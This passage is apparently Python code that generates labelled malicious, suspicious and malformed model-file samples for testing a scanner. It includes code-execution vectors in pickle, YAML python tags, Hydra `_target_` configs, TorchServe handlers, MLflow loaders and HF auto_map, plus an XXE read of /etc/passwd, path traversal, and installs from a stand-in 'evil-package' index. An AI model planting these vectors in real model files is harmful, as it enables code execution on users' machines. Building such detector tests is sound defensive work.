        S.add(lab, f"tf_{n}_dir", {"saved_model.pb": savedmodel(NORMAL_OPS, NORMAL_OPS[:3] + [op]), "variables/variables.index": b"\0" * 40, "variables/variables.data-00000-of-00001": b"\0" * 64, "fingerprint.pb": b""}, "savedmodel", "", f"{n} in the function library")
    a("tf_frozen_graph.pb", savedmodel(["PyFunc"])[2:], "", "savedmodel") if False else None
    a("tf_writefile_noext", savedmodel(NORMAL_OPS + ["WriteFile"]), "no extension")
    a("tf_zip.zip", build([E("m/saved_model.pb", savedmodel(NORMAL_OPS + ["WriteFile"]), 8)]), "zipped")
    a("tf_keras_metadata", {"saved_model.pb": savedmodel(NORMAL_OPS), "keras_metadata.pb": pf(1, pf(1, 1) + pf(2, "_tf_keras_layer") + pf(4, json.dumps(lambda_layer("k2"))))}, "Lambda in keras_metadata.pb", "keras-lambda", "CVE-2024-3660")
    for i, op in enumerate(("MyEvilOp", "Acme>Custom", "CustomLibraryOp")):
        S.add("suspicious", f"tf_custom_op_{i}.pb", savedmodel(NORMAL_OPS + [op]), "savedmodel-custom", "", op)


# --- archives with code and configs
HANDLER_BAD = "import os\nfrom ts.torch_handler.base_handler import BaseHandler\nos.system('echo loadlint-test')\nclass H(BaseHandler):\n    pass\n"
HANDLER_OK = "from ts.torch_handler.base_handler import BaseHandler\n\nclass Scale(BaseHandler):\n    def preprocess(self, data):\n        return [d.get('body') for d in data]\n"


def config_files(S):
    def a(name, data, tech, adv="", note=""):
        S.add("malicious", name, data, tech, adv, note)

    def s(name, data, tech, note=""):
        S.add("suspicious", name, data, tech, "", note)
    ck = build(Z.torch_zip(pk(od({"w": tensor()}))))
    badck = build(Z.torch_zip(pk({"x": C(G("os", "system"), (ECHO,))})))
    cfg = lambda body: b"target: nemo.collections.asr.models.EncDecCTCModel\nsample_rate: 16000\n" + body
    for i, (t, extra) in enumerate((("os.system", "command: echo loadlint-test"), ("subprocess.Popen", "args: [echo]"), ("builtins.exec", "_args_: [print(1)]"), ("subprocess.call", "_args_: [[echo]]"), ("importlib.import_module", "name: antigravity"), ("pickle.load", "file: x"), ("torch.load", "f: x.pt"), ("runpy.run_path", "path_name: x.py"), ("eval", "_args_: ['1']"), ("webbrowser.open", "url: http://x"), ("pip.main", "_args_: [[install, x]]"), ("shutil.rmtree", "path: /tmp/x"), ("torch.hub.load", "repo_or_dir: a/b\n  model: c"), ("hydra.utils.get_method", "path: os.system"), ("pydoc.locate", "path: os.system"))):
        y = cfg(f"tokenizer:\n  _target_: {t}\n  {extra}\n".encode())
        a(f"nemo_target_{i:02d}.nemo", Z.tar([{"name": "./model_config.yaml", "data": y}, {"name": "./model_weights.ckpt", "data": ck}]) if i % 2 else Z.gz(Z.tar([{"name": "model_config.yaml", "data": y}, {"name": "model_weights.ckpt", "data": ck}])), "nemo", "CVE-2025-23304", t)
        if i < 8:
            a(f"hydra_{i:02d}.yaml", f"model:\n  _target_: {t}\n  {extra}\n".encode(), "hydra", "new here", t)
    a("nemo_weights.nemo", Z.tar([{"name": "model_config.yaml", "data": cfg(b"")}, {"name": "model_weights.ckpt", "data": badck}]), "nemo")
    a("nemo_target_list.nemo", Z.tar([{"name": "model_config.yaml", "data": cfg(b"aug:\n  - {_target_: torch.nn.ReLU}\n  - {x: {_target_: os.popen, cmd: echo}}\n")}]), "nemo", "CVE-2025-23304", "nested in a list")
    a("nemo_target_partial.nemo", Z.tar([{"name": "model_config.yaml", "data": cfg(b"fn:\n  _target_: functools.partial\n  _args_: [os.system]\n  _partial_: true\ng:\n  '_target_': 'posix.system'\n")}]), "nemo", "CVE-2025-23304")
    a("nemo_interpolation.yaml", b"parts: {a: os, b: system}\nmodel:\n  _target_: ${parts.a}.${parts.b}\n  command: echo\n", "hydra", "", "target joined by interpolation")
    a("hydra_json.json", json.dumps({"model": {"_target_": "os.system", "command": ECHO}}).encode(), "hydra", "", "as JSON")
    a("lightning_cli.yaml", b"trainer:\n  callbacks:\n  - class_path: os.system\n    init_args: {command: echo}\n", "hydra", "", "LightningCLI class_path")
    a("lightning_cli_popen.yaml", b"model:\n  class_path: subprocess.Popen\n  init_args:\n    args: [echo, loadlint-test]\n", "hydra")
    a("nemo_python_tag.nemo", Z.tar([{"name": "model_config.yaml", "data": b"a: !!python/object/apply:os.system ['echo x']\n"}]), "nemo")
    # TorchServe
    man = lambda **m: json.dumps({"createdOn": "01/01/2025 00:00:00", "runtime": "python", "model": {"modelName": "m", "modelVersion": "1.0", **m}, "archiverVersion": "0.9.0"}).encode()
    a("mar_handler.mar", build([E("MAR-INF/MANIFEST.json", man(handler="handler.py", serializedFile="m.pt")), E("handler.py", HANDLER_BAD.encode(), 8), E("m.pt", ck)]), "mar", "", "handler runs a command at import")
    a("mar_handler_fn.mar", build([E("MAR-INF/MANIFEST.json", man(handler="handler.py:handle")), E("handler.py", b"import subprocess\ndef handle(data, ctx):\n    if data is None:\n        subprocess.run(['echo', 'loadlint-test'])\n    return data\n")]), "mar")
    a("mar_weights.mar", build([E("MAR-INF/MANIFEST.json", man(handler="image_classifier", serializedFile="m.pt")), E("m.pt", badck)]), "mar")
    a("mar_modelfile.mar", build([E("MAR-INF/MANIFEST.json", man(handler="image_classifier", modelFile="model.py", serializedFile="m.pt")), E("model.py", b"import os\nos.system('echo loadlint-test')\nimport torch.nn as nn\nclass M(nn.Module): pass\n"), E("m.pt", ck)]), "mar")
    a("mar_traversal.mar", build([E("MAR-INF/MANIFEST.json", man(handler="image_classifier")), E("../../../tmp/x.py", b"print(1)")]), "mar")
    a("mar_handler_path.mar", build([E("MAR-INF/MANIFEST.json", man(handler="../../../tmp/evil.py")), E("m.pt", ck)]), "mar", "", "handler outside of the archive")
    a("mar_requirements.mar", build([E("MAR-INF/MANIFEST.json", man(handler="image_classifier", requirementsFile="requirements.txt")), E("requirements.txt", b"--index-url http://127.0.0.1:9/simple\nevil-package @ http://127.0.0.1:9/x.whl\n"), E("m.pt", ck)]), "mar", "", "installs from a foreign index")
    a("mar_extra_eval.mar", build([E("MAR-INF/MANIFEST.json", man(handler="h.py")), E("h.py", b"from util import go\ngo()\n"), E("util.py", b"import base64\ndef go():\n    exec(base64.b64decode('cHJpbnQoMSk='))\n")]), "mar", "", "helper executes a decoded string")
    a("mar_tgz.mar", Z.gz(Z.tar([{"name": "MAR-INF/MANIFEST.json", "data": man(handler="h.py")}, {"name": "h.py", "data": HANDLER_BAD.encode()}])), "mar", "", "tgz flavour")
    s("mar_plain_handler.mar", build([E("MAR-INF/MANIFEST.json", man(handler="handler.py", serializedFile="m.pt")), E("handler.py", HANDLER_OK.encode()), E("m.pt", ck)]), "mar", "a handler that does nothing bad: code all the same; doubtful")
    # MLflow
    ml = lambda flav: ("artifact_path: model\nflavors:\n" + flav + "mlflow_version: 2.15.0\nmodel_uuid: 0123\n").encode()
    a("mlflow_python_model", {"MLmodel": ml("  python_function:\n    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n    cloudpickle_version: 3.0.0\n"), "python_model.pkl": pk(C(C(G("cloudpickle.cloudpickle", "_make_function"), (C(G("marshal", "loads"), (b"N",)),)), ()), 4)}, "mlflow", "", "cloudpickle with code")
    a("mlflow_code", {"MLmodel": ml("  python_function:\n    loader_module: evil_loader\n    code: code\n    data: data\n"), "code/evil_loader.py": b"import os\nos.system('echo loadlint-test')\ndef _load_pyfunc(p):\n    return None\n"}, "mlflow", "new here", "loader_module in code/")
    a("mlflow_loader_os", {"MLmodel": ml("  python_function:\n    loader_module: antigravity\n    env: conda.yaml\n")}, "mlflow", "new here", "loader_module is an import side effect")
    a("mlflow_sklearn", {"MLmodel": ml("  sklearn:\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\n"), "model.pkl": evil(4)}, "mlflow")
    a("mlflow_pytorch", {"MLmodel": ml("  pytorch:\n    model_data: data\n    pytorch_version: 2.0.0\n"), "data/pickle_module_info.txt": b"evil_module\n", "data/model.pth": badck}, "mlflow", "", "pickle_module_info names a module")
    a("mlflow_traversal", {"MLmodel": ml("  python_function:\n    loader_module: mlflow.sklearn\n    model_path: ../../../../tmp/evil.pkl\n")}, "mlflow")
    a("mlflow_script_code", {"MLmodel": ml("  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: model.py\n"), "model.py": b"import subprocess\nsubprocess.Popen('echo loadlint-test', shell=True)\n"}, "mlflow", "new here", "models from code")
    s("mlflow_custom_loader", {"MLmodel": ml("  python_function:\n    loader_module: acme_models.loader\n    data: data\n")}, "mlflow", "unknown loader module")
    # skops
    sk = lambda sch, extra=(): build([E("schema.json", json.dumps({**sch, "protocol": 2, "_skops_version": "0.11.0"}).encode()), *extra])
    node = lambda m, c, l, **k: {"__class__": c, "__module__": m, "__loader__": l, "__id__": 1, **k}
    a("skops_operator.skops", sk(node("builtins", "dict", "DictNode", key_types=node("builtins", "list", "ListNode", content=[]), content={"a": node("operator", "methodcaller", "OperatorFuncNode", attrs=node("builtins", "tuple", "TupleNode", content=[]))})), "skops", "CVE-2025-54412")
    a("skops_method.skops", sk(node("os", "system", "MethodNode", content={"func": "system", "obj": node("builtins", "dict", "DictNode", content={})})), "skops", "CVE-2025-54413")
    a("skops_function.skops", sk(node("os", "system", "FunctionNode", content={"module_path": "os", "function": "system"})), "skops")
    a("skops_type.skops", sk(node("subprocess", "Popen", "TypeNode")), "skops")
    a("skops_object.skops", sk(node("subprocess", "Popen", "ObjectNode", content=node("builtins", "dict", "DictNode", content={"args": node("builtins", "str", "JsonNode", content='"echo"')}))), "skops")
    a("skops_partial.skops", sk(node("functools", "partial", "PartialNode", content={"func": node("os", "system", "FunctionNode", content={"module_path": "os", "function": "system"}), "args": {}, "kwds": {}, "namespace": {}})), "skops")
    a("skops_json_pickle_member.skops", sk(node("numpy", "ndarray", "NdArrayNode", type="numpy", file="1.npy"), [E("1.npy", b"\x93NUMPY\x01\x00\x36\x00{'descr':'|O','fortran_order':False,'shape':(1,)}      \n" + evil(3))]), "skops", "", "object array member")
    a("skops_file_traversal.skops", sk(node("numpy", "ndarray", "NdArrayNode", type="numpy", file="../../x.npy")), "skops")
    a("skops_card_joblib", {"README.md": "---\nlibrary_name: sklearn\n---\n", "config.json": json.dumps({"sklearn": {"model": {"file": "model.skops"}}}), "model.skops": evil(3)}, "skops", "CVE-2025-54886", "model.skops is a pickle: the card helper falls back to joblib")
    s("skops_unknown_type.skops", sk(node("acme.models", "Net", "ObjectNode", content=node("builtins", "dict", "DictNode", content={}))), "skops", "class of an unknown module")
    # sentence-transformers, HF
    st = lambda t: json.dumps([{"idx": 0, "name": "0", "path": "", "type": t}, {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}])
    EV = "import os\nos.system('echo loadlint-test')\nclass Model:\n    pass\n"
    a("st_modules_local", {"modules.json": st("evil_module.Model"), "evil_module.py": EV, "config.json": "{}"}, "sentence-transformers", "new here", "local module runs code")
    a("st_modules_os", {"modules.json": st("os.system")}, "sentence-transformers", "new here")
    a("st_modules_subprocess.json", st("subprocess.Popen").encode(), "sentence-transformers", "", "modules.json under another name") if False else None
    s("st_modules_custom", {"modules.json": st("acme_pooling.WeightedPooling")}, "sentence-transformers", "class outside of sentence_transformers")
    s("st_modules_remote", {"modules.json": st("acme/repo--custom.Model")}, "sentence-transformers")
    am = lambda v, **k: json.dumps({"model_type": "acme", "architectures": ["AcmeForCausalLM"], "auto_map": v, **k})
    a("hf_automap_local", {"config.json": am({"AutoConfig": "configuration_acme.AcmeConfig", "AutoModelForCausalLM": "modeling_acme.AcmeForCausalLM"}), "configuration_acme.py": EV, "modeling_acme.py": "import torch\n"}, "auto_map", "", "local code runs a command at import")
    a("hf_automap_tokenizer", {"tokenizer_config.json": json.dumps({"auto_map": {"AutoTokenizer": ["tok.Tok", None]}}), "tok.py": EV}, "auto_map")
    a("hf_automap_processor", {"processor_config.json": json.dumps({"auto_map": {"AutoProcessor": "proc.P"}}), "proc.py": "exec(__import__('base64').b64decode('cHJpbnQoMSk='))\nclass P: pass\n"}, "auto_map")
    a("hf_custom_generate", {"config.json": json.dumps({"model_type": "llama"}), "custom_generate/generate.py": EV}, "auto_map", "", "custom_generate/generate.py")
    a("hf_custom_pipeline", {"config.json": json.dumps({"custom_pipelines": {"x": {"impl": "pipe.P", "pt": ["AutoModel"]}}}), "pipe.py": EV}, "auto_map")
    a("diffusers_local_code", {"model_index.json": json.dumps({"_class_name": ["pipeline", "EvilPipeline"], "_diffusers_version": "0.30.0", "unet": ["my_unet", "Unet"]}), "pipeline.py": EV}, "model_index")
    a("peft_parent_library", {"adapter_config.json": json.dumps({"peft_type": "LORA", "base_model_name_or_path": "x/y", "auto_mapping": {"base_model_class": "system", "parent_library": "os"}})}, "adapter_config", "", "imports os.system")
    a("peft_parent_local", {"adapter_config.json": json.dumps({"peft_type": "LORA", "auto_mapping": {"base_model_class": "M", "parent_library": "evil"}}), "evil.py": EV}, "adapter_config")
    s("peft_parent_unknown", {"adapter_config.json": json.dumps({"peft_type": "LORA", "auto_mapping": {"base_model_class": "M", "parent_library": "acme_lib.models"}})}, "adapter_config")
    for i, (f, body) in enumerate((("config.json", am({"AutoModel": "acme/other-repo--modeling.M"})), ("config.json", am({"AutoConfig": "conf.C"})), ("tokenizer_config.json", json.dumps({"auto_map": {"AutoTokenizer": ["acme/repo--tok.T", "acme/repo--tok.TF"]}})), ("preprocessor_config.json", json.dumps({"auto_map": {"AutoImageProcessor": "ip.P"}})), ("processor_config.json", json.dumps({"auto_map": {"AutoProcessor": "acme/x--p.P"}})), ("video_preprocessor_config.json", json.dumps({"auto_map": {"AutoVideoProcessor": "v.P"}})),
                                  ("config.json", json.dumps({"model_type": "llama", "_attn_implementation": "acme/kernel"})), ("config.json", json.dumps({"model_type": "llama", "attn_implementation": "acme/kernel@main"})), ("model_index.json", json.dumps({"_class_name": ["my_pipeline", "P"], "unet": ["diffusers", "UNet2DConditionModel"]})), ("config.json", json.dumps({"custom_pipelines": {"t": {"impl": "p.P"}}})))):
        s(f"hf_remote_{i:02d}", {f: body}, "auto_map", "code from the repository or another one, no code here to read")
    # YAML python tags
    Y = {"apply": "x: !!python/object/apply:os.system ['echo loadlint-test']\n", "new": "x: !!python/object/new:subprocess.Popen [['echo', 'x']]\n", "obj": "x: !!python/object:subprocess.Popen {args: echo}\n", "module": "x: !!python/module:antigravity\n", "name": "x: !!python/name:os.system\n", "verbatim": "x: !<tag:yaml.org,2002:python/object/apply:os.system> ['echo x']\n", "tagdir": "%TAG !p! tag:yaml.org,2002:python/\n---\nx: !p!object/apply:os.system ['echo x']\n",
         "state": "x: !!python/object/new:type\n  args: ['z', !!python/tuple [], {'extend': !!python/name:exec }]\n  listitems: \"import os\"\n", "eval": "- !!python/object/apply:eval ['1+1']\n", "subprocess_list": "a:\n  - b:\n      c: !!python/object/apply:subprocess.check_output\n        - [echo, loadlint-test]\n", "escaped": "x: !!python/object/apply:os%2Esystem ['echo x']\n", "multi": "a: 1\n---\nb: !!python/object/apply:os.popen ['echo']\n", "flow": "{a: !!python/object/apply:builtins.exec ['print(1)']}\n", "key": "? !!python/object/apply:os.system ['echo x']\n: 1\n"}
    names = ["config.yaml", "hparams.yaml", "conda.yml", "args.yaml", "params.yml", "model.yaml"]
    for i, (k, v) in enumerate(Y.items()):
        a(f"yaml_{k}_{names[i % len(names)]}", v.encode(), "yaml-tag", "", k)
    a("yaml_in_zip.zip", build([E("m/hparams.yaml", Y["apply"].encode(), 8)]), "yaml-tag")
    a("yaml_noext", Y["apply"].encode(), "yaml-tag", "", "no extension; hard: plain text") if False else None
    a("jsonpickle.json", b'{"py/object": "subprocess.Popen", "py/reduce": [{"py/type": "os.system"}, {"py/tuple": ["echo x"]}]}', "jsonpickle", "", "jsonpickle document")
    a("jsonpickle_function.json", b'{"a": {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["echo x"]}]}}', "jsonpickle")
    # executables under model names
    elf = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0) + b"\x90" * 200
    pe = b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + b"\x64\x86\x01\0" + b"\0" * 200
    macho = struct.pack("<IIIIIIII", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0, 0) + b"\0" * 200
    for i, (n, d) in enumerate((("pytorch_model.bin", elf), ("model.safetensors", elf), ("model.pt", pe), ("weights.h5", pe), ("model.onnx", macho), ("model.gguf", elf), ("model.pkl", b"#!/bin/sh\necho loadlint-test\n"), ("model.ckpt", b"#!/usr/bin/env python3\nimport os\nos.system('echo loadlint-test')\n"), ("model.npz", pe), ("tokenizer.model", elf), ("model.joblib", b"<?php system('echo loadlint-test'); ?>"), ("model.pth", b"import os\nos.system('echo loadlint-test')\n"), ("model.keras", elf), ("adapter_model.bin", pe), ("model.npy", b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 60))):
        S.add("malicious" if i != 14 else "suspicious", f"exec_{i:02d}/{n}", d, "executable", "", "executable under a model's name")
    a("evil.pth", b"import os; os.system('echo loadlint-test')\n", "executable", "", "a .pth start-up file of site-packages: runs at every start of Python")
    a("pyc_model.bin", b"\xa7\x0d\x0d\x0a" + b"\0" * 12 + marshal.dumps(compile(PYECHO, "x", "exec")), "executable", "", "compiled Python under a model's name")
    s("payload.pyc", b"\xa7\x0d\x0d\x0a" + b"\0" * 12 + marshal.dumps(compile(PYECHO, "x", "exec")), "executable", "compiled Python")
    s("code.marshal", marshal.dumps(compile(PYECHO, "x", "exec")), "executable", "marshalled code object; no magic, hard to tell")
    a("llamafile.gguf", b"MZqFpD='\n" + b"\0" * 100 + gguf({**BASE, "tokenizer.chat_template": CHATML}), "executable", "", "APE executable with a model inside")
    # R, PMML, others
    s("pmml_extension.pmml", b'<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4"><Header>&x;</Header></PMML>', "xml", "external entity")
    s("r_promise.rds", Z.gz(b"X\n\0\0\0\3\0\4\3\2\0\3\5\0\0\0\0\5UTF-8\0\0\0\5\0\0\0\1\0\4\0\x09\0\0\0\1x"), "r", "R promise (CVE-2024-27322), unreadable without an R reader")
    a("svg_script.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert("loadlint-test")</script></svg>', "other") if False else None
    # safetensors
    def sft(header, data=b"\0" * 64, n=None):
        h = header if isinstance(header, bytes) else json.dumps(header).encode()
        return struct.pack("<Q", len(h) if n is None else n) + h + data
    T = lambda o, sh=(4,), d="F32": {"dtype": d, "shape": list(sh), "data_offsets": list(o)}
    M = lambda name, data, note: S.add("malformed", name, data, "safetensors-header", "", note)
    M("sft_overlap.safetensors", sft({"a": T((0, 16)), "b": T((8, 24))}, b"\0" * 24), "overlapping tensors")
    M("sft_hole.safetensors", sft({"a": T((0, 16)), "b": T((32, 48))}, b"\0" * 48), "hole")
    M("sft_out_of_range.safetensors", sft({"a": T((0, 16)), "b": T((16, 4096), (1020,))}, b"\0" * 32), "offset beyond the end")
    M("sft_reversed.safetensors", sft({"a": T((16, 0))}, b"\0" * 16), "begin after end")
    M("sft_shape.safetensors", sft({"a": T((0, 16), (5,))}, b"\0" * 16), "shape and bytes differ")
    M("sft_shape_overflow.safetensors", sft({"a": T((0, 16), (2**40, 2**40))}, b"\0" * 16), "shape overflows")
    M("sft_dtype.safetensors", sft({"a": T((0, 16), d="PY_OBJECT")}, b"\0" * 16), "unknown dtype")
    M("sft_header_long.safetensors", sft({"a": T((0, 16))}, b"\0" * 16, n=2**40), "header length beyond the file")
    M("sft_header_max.safetensors", sft({"a": T((0, 16))}, b"\0" * 16, n=2**64 - 1), "header length 2^64-1")
    M("sft_header_short.safetensors", sft({"a": T((0, 16))}, b"\0" * 16, n=10), "header length too short")
    M("sft_not_json.safetensors", sft(b"{not json}", b""), "header is no JSON")
    M("sft_array.safetensors", sft(b"[1,2]", b""), "header is a list")
    M("sft_neg.safetensors", sft({"a": T((-1, 16))}, b"\0" * 16), "negative offset")
    M("sft_float.safetensors", sft(b'{"a":{"dtype":"F32","shape":[4.5],"data_offsets":[0,16]}}', b"\0" * 16), "float shape")
    M("sft_trailing.safetensors", sft({"a": T((0, 16))}, b"\0" * 16 + b"EXTRA DATA"), "bytes after the last tensor")
    M("sft_nonutf8.safetensors", sft(b'{"\xff\xfe":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}', b"\0" * 16), "name is no UTF-8")
    M("sft_meta_nonstring.safetensors", sft({"__metadata__": {"x": {"y": 1}}, "a": T((0, 16))}, b"\0" * 16), "metadata value is an object")
    M("sft_deep.safetensors", sft(b'{"__metadata__":' + b"[" * 5000 + b"]" * 5000 + b"}", b""), "deep JSON")
    M("sft_empty_data.safetensors", sft({"a": T((0, 16))}, b""), "no data")
    s("sft_dup_keys.safetensors", sft(b'{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"a":{"dtype":"F32","shape":[8],"data_offsets":[0,32]}}', b"\0" * 32), "safetensors-header", "duplicate keys")
    s("sft_dup_meta.safetensors", sft(b'{"__metadata__":{"format":"pt"},"__metadata__":{"format":"x"},"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}', b"\0" * 16), "safetensors-header", "duplicate metadata")
    s("sft_pickle_tail.safetensors", sft({"a": T((0, 16))}, b"\0" * 16 + evil(2)), "polyglot", "pickle behind the tensors")
    a("sft_zip_tail.safetensors", sft({"a": T((0, 16))}, b"\0" * 16) + badck, "polyglot", "", "torch zip behind a safetensors file, reached by its end record")
    s("sft_leading_space.safetensors", sft(b"   " + json.dumps({"a": T((0, 16))}).encode(), b"\0" * 16), "safetensors-header", "header does not start with a brace")
